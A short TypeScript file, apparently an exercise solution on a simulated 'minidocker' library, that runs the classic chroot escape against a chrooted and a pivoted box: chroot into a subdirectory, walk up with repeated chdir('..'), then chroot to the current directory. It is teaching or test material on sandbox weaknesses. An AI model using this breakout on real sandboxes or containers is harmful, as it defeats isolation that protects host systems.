import type { Box } from 'minidocker';

export default function tryBoth(chrooted: Box, pivoted: Box): void {
  for (const box of [chrooted, pivoted]) breakOut(box);
}

function breakOut({ process }: Box): void {
  // Gap: get the working directory out of the root, and walk up as far as there is an up.
  process.call('chroot', '/usr');
  for (let i = 0; i < 64; i++) process.call('chdir', '..');
  // End of the gap.
  process.call('chroot', '.');
}
